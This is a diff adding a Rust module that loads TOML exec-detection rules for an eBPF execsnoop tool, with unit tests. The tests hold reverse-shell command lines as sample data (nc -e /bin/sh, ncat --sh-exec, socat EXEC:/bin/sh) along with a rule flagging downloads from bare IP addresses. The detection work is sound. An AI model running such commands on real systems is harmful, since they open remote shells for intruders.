@@ -1,0 +1,692 @@
+// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
+//! Exec rules (`--rules FILE|builtin`): TOML files of named conditions, checked in user space on
+//! each record after it arrives, so the exec path in the kernel pays nothing for them.
+//!
+//! A file is a list of `[[rule]]` tables, each with `name`, `severity` (`info`, `low`,
+//! `medium`, `high`, `critical`), a one-line `description`, a `match` table of conditions that
+//! must all hold, and optional `except` tables: the rule does not match an exec that meets
+//! every condition of any one of them. The format is documented in docs/execsnoop-rules.md.
+//! Any error refuses the whole file, naming its line.
+
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt;
+use std::path::Path;
+
+use globset::{GlobBuilder, GlobSet, GlobSetBuilder};
+use regex::bytes::Regex;
+use serde::Deserialize;
+use toml::Spanned;
+
+use crate::audit;
+
+/// The built-in set, in the same format (tools/execsnoop/rules/builtin.toml).
+pub const BUILTIN: &str = include_str!("../rules/builtin.toml");
+
+/// How serious a match is, least first.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    Info,
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+impl Severity {
+    pub fn name(self) -> &'static str {
+        match self {
+            Severity::Info => "info",
+            Severity::Low => "low",
+            Severity::Medium => "medium",
+            Severity::High => "high",
+            Severity::Critical => "critical",
+        }
+    }
+}
+
+/// What a rule looks at in one exec; built once per record.
+#[derive(Debug, Default)]
+pub struct Exec<'a> {
+    /// In a container (its cgroup says so); `None`: unknown.
+    pub container: Option<bool>,
+    /// The executable's path (`/proc/PID/exe` without ` (deleted)`); `None`: not known.
+    pub exe: Option<Vec<u8>>,
+    pub comm: &'a [u8],
+    /// The caller's argv joined by single spaces.
+    pub argv: Vec<u8>,
+    pub parent: &'a [u8],
+    pub grandparent: Option<&'a [u8]>,
+    /// `None`: not read; `Some(false)`: no controlling terminal.
+    pub tty: Option<bool>,
+    pub memfd: bool,
+    pub deleted: bool,
+    pub upper: bool,
+    pub uid: u32,
+    /// (euid, gid, egid, loginuid) when read.
+    pub ids: Option<(u32, u32, u32, u32)>,
+}
+
+// The file's shape. Conditions are optional; every one given must hold.
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct File {
+    #[serde(default)]
+    rule: Vec<RawRule>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RawRule {
+    name: Spanned<String>,
+    severity: Severity,
+    description: String,
+    #[serde(rename = "match")]
+    when: Spanned<RawCond>,
+    #[serde(default)]
+    except: Vec<Spanned<RawCond>>,
+}
+
+#[derive(Deserialize, Default)]
+#[serde(deny_unknown_fields)]
+struct RawCond {
+    container: Option<bool>,
+    exe: Option<Vec<Spanned<String>>>,
+    comm: Option<Vec<Spanned<String>>>,
+    argv: Option<Spanned<String>>,
+    parent: Option<Vec<Spanned<String>>>,
+    ancestor: Option<Vec<Spanned<String>>>,
+    tty: Option<bool>,
+    flags: Option<Vec<Spanned<String>>>,
+    setuid: Option<bool>,
+    uid: Option<Vec<u32>>,
+    euid: Option<Vec<u32>>,
+    loginuid: Option<Vec<u32>>,
+}
+
+/// One checked condition set.
+#[derive(Debug, Default)]
+struct Cond {
+    container: Option<bool>,
+    exe: Option<GlobSet>,
+    comm: Option<GlobSet>,
+    argv: Option<Regex>,
+    parent: Option<GlobSet>,
+    ancestor: Option<GlobSet>,
+    tty: Option<bool>,
+    /// Any of these: memfd, deleted, upper (fileless = memfd or deleted).
+    flags: Option<Flags>,
+    setuid: Option<bool>,
+    uid: Option<Vec<u32>>,
+    euid: Option<Vec<u32>>,
+    loginuid: Option<Vec<u32>>,
+}
+
+#[derive(Debug, Default, Clone, Copy)]
+struct Flags {
+    memfd: bool,
+    deleted: bool,
+    upper: bool,
+}
+
+/// A rule ready to match.
+#[derive(Debug)]
+pub struct Rule {
+    pub name: String,
+    pub severity: Severity,
+    pub description: String,
+    when: Cond,
+    except: Vec<Cond>,
+}
+
+/// What one exec matched, for JSON.
+pub struct Tagged {
+    pub names: Vec<String>,
+    pub severity: Option<Severity>,
+}
+
+/// The loaded rules, in file order.
+#[derive(Debug, Default)]
+pub struct Rules {
+    pub rules: Vec<Rule>,
+}
+
+/// 1-based line of byte `offset` in `text`.
+fn line_of(text: &str, offset: usize) -> usize {
+    text.as_bytes()[..offset.min(text.len())]
+        .iter()
+        .filter(|&&b| b == b'\n')
+        .count()
+        + 1
+}
+
+/// A problem at a place in the file: `(byte offset, message)`.
+type Problem = (usize, String);
+
+fn globs(pats: &[Spanned<String>], path_like: bool) -> Result<GlobSet, Problem> {
+    let mut b = GlobSetBuilder::new();
+    for p in pats {
+        // In paths `*` stays within one name and `**` crosses directories, as in .gitignore.
+        let g = GlobBuilder::new(p.get_ref())
+            .literal_separator(path_like)
+            .build()
+            .map_err(|e| {
+                (
+                    p.span().start,
+                    format!("bad glob {:?}: {}", p.get_ref(), e.kind()),
+                )
+            })?;
+        b.add(g);
+    }
+    b.build().map_err(|e| (0, e.to_string()))
+}
+
+fn cond(raw: &RawCond, at: usize) -> Result<Cond, Problem> {
+    let set =
+        |v: &Option<Vec<Spanned<String>>>, path| v.as_deref().map(|p| globs(p, path)).transpose();
+    let argv = raw
+        .argv
+        .as_ref()
+        .map(|r| {
+            Regex::new(r.get_ref()).map_err(|e| {
+                (
+                    r.span().start,
+                    format!("bad argv regex: {}", one_line(&e.to_string())),
+                )
+            })
+        })
+        .transpose()?;
+    let flags = raw
+        .flags
+        .as_ref()
+        .map(|names| {
+            let mut f = Flags::default();
+            for n in names {
+                match n.get_ref().as_str() {
+                    "memfd" => f.memfd = true,
+                    "deleted" => f.deleted = true,
+                    "fileless" => (f.memfd, f.deleted) = (true, true),
+                    "upper" => f.upper = true,
+                    other => {
+                        return Err((
+                            n.span().start,
+                            format!(
+                                "unknown flag {other:?} (known: memfd, deleted, fileless, upper)"
+                            ),
+                        ));
+                    }
+                }
+            }
+            Ok(f)
+        })
+        .transpose()?;
+    let c = Cond {
+        container: raw.container,
+        exe: set(&raw.exe, true)?,
+        comm: set(&raw.comm, false)?,
+        argv,
+        parent: set(&raw.parent, false)?,
+        ancestor: set(&raw.ancestor, false)?,
+        tty: raw.tty,
+        flags,
+        setuid: raw.setuid,
+        uid: raw.uid.clone(),
+        euid: raw.euid.clone(),
+        loginuid: raw.loginuid.clone(),
+    };
+    if c.is_empty() {
+        return Err((at, "a condition table with no conditions".into()));
+    }
+    Ok(c)
+}
+
+/// A regex error spans several lines (the pattern, a caret, the message): keep the message.
+fn one_line(s: &str) -> String {
+    s.lines()
+        .rev()
+        .find(|l| !l.trim().is_empty())
+        .unwrap_or(s)
+        .trim()
+        .trim_start_matches("error: ")
+        .to_owned()
+}
+
+impl Cond {
+    fn is_empty(&self) -> bool {
+        self.container.is_none()
+            && self.exe.is_none()
+            && self.comm.is_none()
+            && self.argv.is_none()
+            && self.parent.is_none()
+            && self.ancestor.is_none()
+            && self.tty.is_none()
+            && self.flags.is_none()
+            && self.setuid.is_none()
+            && self.uid.is_none()
+            && self.euid.is_none()
+            && self.loginuid.is_none()
+    }
+
+    /// Do all conditions hold? A condition on a field that was not read does not hold.
+    fn holds(&self, x: &Exec<'_>) -> bool {
+        let glob = |g: &Option<GlobSet>, v: &[u8]| {
+            g.as_ref()
+                .is_none_or(|g| g.is_match(Path::new(OsStr::from_bytes(v))))
+        };
+        let ids = x.ids;
+        self.container.is_none_or(|want| x.container == Some(want))
+            && self.exe.as_ref().is_none_or(|g| {
+                x.exe
+                    .as_deref()
+                    .is_some_and(|p| g.is_match(Path::new(OsStr::from_bytes(p))))
+            })
+            && glob(&self.comm, x.comm)
+            && self.argv.as_ref().is_none_or(|r| r.is_match(&x.argv))
+            && glob(&self.parent, x.parent)
+            && self.ancestor.as_ref().is_none_or(|g| {
+                let m = |v: &[u8]| g.is_match(Path::new(OsStr::from_bytes(v)));
+                m(x.parent) || x.grandparent.is_some_and(m)
+            })
+            && self.tty.is_none_or(|want| x.tty == Some(want))
+            && self.flags.is_none_or(|f| {
+                (f.memfd && x.memfd) || (f.deleted && x.deleted) || (f.upper && x.upper)
+            })
+            && self.setuid.is_none_or(|want| {
+                ids.is_some_and(|(euid, gid, egid, _)| (euid != x.uid || egid != gid) == want)
+            })
+            && self.uid.as_ref().is_none_or(|v| v.contains(&x.uid))
+            && self
+                .euid
+                .as_ref()
+                .is_none_or(|v| ids.is_some_and(|(euid, ..)| v.contains(&euid)))
+            && self
+                .loginuid
+                .as_ref()
+                .is_none_or(|v| ids.is_some_and(|(.., l)| v.contains(&l)))
+    }
+
+    /// The audit parts (`audit::AUDIT_*`) the BPF side must read for these conditions.
+    fn parts(&self) -> u16 {
+        let mut p = 0;
+        if self.exe.is_some() || self.flags.is_some() {
+            p |= audit::AUDIT_EXE;
+        }
+        if self.tty.is_some() {
+            p |= audit::AUDIT_TTY;
+        }
+        if self.setuid.is_some() || self.euid.is_some() || self.loginuid.is_some() {
+            p |= audit::AUDIT_IDS;
+        }
+        if self.ancestor.is_some() {
+            p |= audit::AUDIT_GPARENT;
+        }
+        p
+    }
+}
+
+impl Rules {
+    /// Parse one rules file; `name` is how errors name it (`FILE:LINE: problem`).
+    pub fn parse(name: &str, text: &str) -> Result<Rules, String> {
+        let at = |off: usize, msg: &str| format!("{name}:{}: {msg}", line_of(text, off));
+        let file: File = toml::from_str(text).map_err(|e| {
+            let off = e.span().map_or(0, |s| s.start);
+            at(off, &one_line(e.message()))
+        })?;
+        let mut rules: Vec<Rule> = Vec::new();
+        for r in file.rule {
+            let n = r.name.get_ref();
+            let valid = !n.is_empty()
+                && n.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b));
+            if !valid {
+                return Err(at(
+                    r.name.span().start,
+                    &format!("rule name {n:?}: use letters, digits, '-', '_', '.'"),
+                ));
+            }
+            if rules.iter().any(|x| &x.name == n) {
+                return Err(at(
+                    r.name.span().start,
+                    &format!("a second rule named {n:?}"),
+                ));
+            }
+            let when = cond(r.when.get_ref(), r.when.span().start).map_err(|(o, m)| at(o, &m))?;
+            let except = r
+                .except
+                .iter()
+                .map(|c| cond(c.get_ref(), c.span().start))
+                .collect::<Result<Vec<_>, _>>()
+                .map_err(|(o, m)| at(o, &m))?;
+            rules.push(Rule {
+                name: n.clone(),
+                severity: r.severity,
+                description: r.description,
+                when,
+                except,
+            });
+        }
+        if rules.is_empty() {
+            return Err(format!("{name}: no [[rule]] tables"));
+        }
+        Ok(Rules { rules })
+    }
+
+    /// Load `--rules` values in order: `builtin` or a file path. A name used twice is refused.
+    pub fn load(sources: &[String]) -> Result<Rules, String> {
+        let mut all = Rules::default();
+        for src in sources {
+            let more = if src == "builtin" {
+                Rules::parse("builtin", BUILTIN)?
+            } else {
+                let text = std::fs::read_to_string(src).map_err(|e| format!("{src}: {e}"))?;
+                Rules::parse(src, &text)?
+            };
+            for r in more.rules {
+                if all.rules.iter().any(|x| x.name == r.name) {
+                    return Err(format!("{src}: rule {:?} is already defined", r.name));
+                }
+                all.rules.push(r);
+            }
+        }
+        Ok(all)
+    }
+
+    /// The audit parts the rules look at, for the BPF side to read.
+    pub fn parts(&self) -> u16 {
+        self.rules
+            .iter()
+            .flat_map(|r| std::iter::once(&r.when).chain(&r.except))
+            .fold(0, |p, c| p | c.parts())
+    }
+
+    /// Do any rules look at whether the exec is in a container?
+    pub fn need_container(&self) -> bool {
+        self.rules
+            .iter()
+            .flat_map(|r| std::iter::once(&r.when).chain(&r.except))
+            .any(|c| c.container.is_some())
+    }
+
+    /// Indices of the rules this exec matches, in file order.
+    pub fn matches(&self, x: &Exec<'_>) -> Vec<usize> {
+        self.rules
+            .iter()
+            .enumerate()
+            .filter(|(_, r)| r.when.holds(x) && !r.except.iter().any(|c| c.holds(x)))
+            .map(|(i, _)| i)
+            .collect()
+    }
+
+    /// The RULE column: matched names joined by commas, `-` for none.
+    pub fn names(&self, matched: &[usize]) -> String {
+        if matched.is_empty() {
+            return "-".into();
+        }
+        let names: Vec<&str> = matched
+            .iter()
+            .map(|&i| self.rules[i].name.as_str())
+            .collect();
+        names.join(",")
+    }
+
+    /// JSON's `rules` (names) and `severity` (the highest, `None` without a match).
+    pub fn tagged(&self, matched: &[usize]) -> Tagged {
+        Tagged {
+            names: matched
+                .iter()
+                .map(|&i| self.rules[i].name.clone())
+                .collect(),
+            severity: matched.iter().map(|&i| self.rules[i].severity).max(),
+        }
+    }
+
+    /// `--list-rules`: one rule a line, NAME SEVERITY DESCRIPTION, aligned.
+    pub fn listing(&self) -> String {
+        let w = self
+            .rules
+            .iter()
+            .map(|r| r.name.len())
+            .max()
+            .unwrap_or(4)
+            .max(4);
+        let mut out = format!("{:<w$} {:<8} DESCRIPTION\n", "NAME", "SEVERITY");
+        for r in &self.rules {
+            out.push_str(&format!(
+                "{:<w$} {:<8} {}\n",
+                r.name,
+                r.severity.name(),
+                r.description
+            ));
+        }
+        out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn exec<'a>() -> Exec<'a> {
+        Exec {
+            container: Some(false),
+            exe: Some(b"/usr/bin/true".to_vec()),
+            comm: b"true",
+            argv: b"true".to_vec(),
+            parent: b"bash",
+            grandparent: Some(b"sshd"),
+            tty: Some(false),
+            uid: 1000,
+            ids: Some((1000, 1000, 1000, 1000)),
+            ..Default::default()
+        }
+    }
+
+    fn names(r: &Rules, x: &Exec<'_>) -> Vec<String> {
+        r.matches(x)
+            .into_iter()
+            .map(|i| r.rules[i].name.clone())
+            .collect()
+    }
+
+    #[test]
+    fn builtin_parses_and_lists() {
+        let r = Rules::load(&["builtin".into()]).expect("builtin");
+        assert_eq!(
+            r.listing(),
+            "NAME                        SEVERITY DESCRIPTION\n\
+             terminal-shell-in-container high     A shell started with a terminal inside a container (someone is typing in it)\n\
+             exec-from-temp-dir          medium   An executable run from /tmp, /dev/shm, /run/shm or /var/tmp\n\
+             fileless-exec               high     An executable with no name on disk: a memfd, or a file deleted before it ran\n\
+             container-drift             high     A binary written into a container's upper layer after it started, then run\n\
+             netcat-exec                 critical A network tool started with an option that runs a program (nc -e and the like)\n\
+             shell-from-server           high     A shell whose parent is a web server or database process\n\
+             setuid-gain                 low      A set-user-ID or set-group-ID program raised the effective ids above the real ones\n"
+        );
+        let all = audit::AUDIT_EXE | audit::AUDIT_TTY | audit::AUDIT_IDS;
+        assert_eq!(r.parts(), all);
+        assert!(r.need_container());
+    }
+
+    #[test]
+    fn builtin_matches_what_it_says() {
+        let r = Rules::load(&["builtin".into()]).expect("builtin");
+        assert!(names(&r, &exec()).is_empty());
+        let shm = Exec {
+            exe: Some(b"/dev/shm/x".to_vec()),
+            ..exec()
+        };
+        assert_eq!(names(&r, &shm), ["exec-from-temp-dir"]);
+        // `**` crosses directories; the prefix must be a whole name.
+        let deep = Exec {
+            exe: Some(b"/tmp/a/b/c".to_vec()),
+            ..exec()
+        };
+        assert_eq!(names(&r, &deep), ["exec-from-temp-dir"]);
+        let near = Exec {
+            exe: Some(b"/tmpfoo/x".to_vec()),
+            ..exec()
+        };
+        assert!(names(&r, &near).is_empty());
+        let memfd = Exec {
+            memfd: true,
+            exe: Some(b"/memfd:x".to_vec()),
+            ..exec()
+        };
+        assert_eq!(names(&r, &memfd), ["fileless-exec"]);
+        let shell = Exec {
+            container: Some(true),
+            comm: b"bash",
+            tty: Some(true),
+            upper: true,
+            ..exec()
+        };
+        assert_eq!(
+            names(&r, &shell),
+            ["terminal-shell-in-container", "container-drift"]
+        );
+        // The same on the host: neither container rule.
+        assert!(
+            names(
+                &r,
+                &Exec {
+                    container: Some(false),
+                    ..shell
+                }
+            )
+            .is_empty()
+        );
+        for (comm, argv, hit) in [
+            (&b"nc"[..], &b"nc -e /bin/sh 10.0.0.1 4444"[..], true),
+            (b"nc.traditional", b"nc.traditional -lvp 4444 -c sh", true),
+            (b"ncat", b"ncat --sh-exec sh host 1", true),
+            (b"socat", b"socat TCP:h:1 EXEC:/bin/sh", true),
+            (b"nc", b"nc -zv localhost 22", false),
+            (b"curl", b"curl -e x", false),
+        ] {
+            let x = Exec {
+                comm,
+                argv: argv.to_vec(),
+                ..exec()
+            };
+            assert_eq!(
+                names(&r, &x) == ["netcat-exec"],
+                hit,
+                "{}",
+                String::from_utf8_lossy(argv)
+            );
+        }
+        let web = Exec {
+            comm: b"sh",
+            parent: b"php-fpm8.2",
+            ..exec()
+        };
+        assert_eq!(names(&r, &web), ["shell-from-server"]);
+        let suid = Exec {
+            comm: b"pkexec",
+            ids: Some((0, 1000, 1000, 1000)),
+            ..exec()
+        };
+        assert_eq!(names(&r, &suid), ["setuid-gain"]);
+        // The except list keeps sudo quiet.
+        assert!(
+            names(
+                &r,
+                &Exec {
+                    comm: b"sudo",
+                    ..suid
+                }
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn unread_fields_do_not_match() {
+        let r = Rules::load(&["builtin".into()]).expect("builtin");
+        let x = Exec {
+            exe: None,
+            tty: None,
+            ids: None,
+            container: None,
+            comm: b"bash",
+            ..exec()
+        };
+        assert!(names(&r, &x).is_empty());
+    }
+
+    const CUSTOM: &str = r#"
+[[rule]]
+name = "curl-to-ip"
+severity = "medium"
+description = "curl or wget fetching from a bare IP address"
+match = { comm = ["curl", "wget"], argv = 'https?://[0-9]+(\.[0-9]+){3}' }
+except = [{ argv = '://127\.0\.0\.1' }, { ancestor = ["apt*"] }]
+"#;
+
+    #[test]
+    fn custom_rule_with_argv_regex_and_except() {
+        let r = Rules::parse("custom.toml", CUSTOM).expect("parses");
+        let x = |comm: &'static [u8], argv: &str, gp: &'static [u8]| Exec {
+            comm,
+            argv: argv.as_bytes().to_vec(),
+            grandparent: Some(gp),
+            ..exec()
+        };
+        assert_eq!(
+            names(&r, &x(b"curl", "curl http://10.1.2.3/x", b"sshd")),
+            ["curl-to-ip"]
+        );
+        assert!(names(&r, &x(b"curl", "curl http://127.0.0.1/x", b"sshd")).is_empty());
+        assert!(names(&r, &x(b"curl", "curl http://example.com/", b"sshd")).is_empty());
+        assert!(names(&r, &x(b"wget", "wget https://10.1.2.3/", b"apt-get")).is_empty());
+        assert!(names(&r, &x(b"true", "true http://10.1.2.3/", b"sshd")).is_empty());
+        assert_eq!(r.parts(), audit::AUDIT_GPARENT);
+        assert!(!r.need_container());
+    }
+
+    #[test]
+    fn bad_files_name_their_line_golden() {
+        let cases: &[(&str, &str)] = &[
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"urgent\"\ndescription = \"d\"\nmatch = { tty = true }\n",
+                "f.toml:3: unknown variant `urgent`, expected one of `info`, `low`, `medium`, `high`, `critical`",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { argv = '(' }\n",
+                "f.toml:5: bad argv regex: unclosed group",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { exe = [\"/tmp/[\"] }\n",
+                "f.toml:5: bad glob \"/tmp/[\": unclosed character class; missing ']'",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { flags = [\"bad\"] }\n",
+                "f.toml:5: unknown flag \"bad\" (known: memfd, deleted, fileless, upper)",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { ttty = true }\n",
+                "f.toml:5: unknown field `ttty`, expected one of `container`, `exe`, `comm`, `argv`, `parent`, `ancestor`, `tty`, `flags`, `setuid`, `uid`, `euid`, `loginuid`",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\n\nmatch = { tty = true }\n",
+                "f.toml:1: missing field `description`",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = {}\n",
+                "f.toml:5: a condition table with no conditions",
+            ),
+            ("[[rule]\n", "f.toml:1: unclosed array table, expected `]`"),
+            ("", "f.toml: no [[rule]] tables"),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n\
+                 [[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n",
+                "f.toml:7: a second rule named \"a\"",
+            ),
+        ];
+        for (text, want) in cases {
+            let got = Rules::parse("f.toml", text).expect_err(text);
+            assert_eq!(&got, want, "{text}");
+            assert!(!got.contains('\n'), "one line: {got}");
+        }
+    }
+}
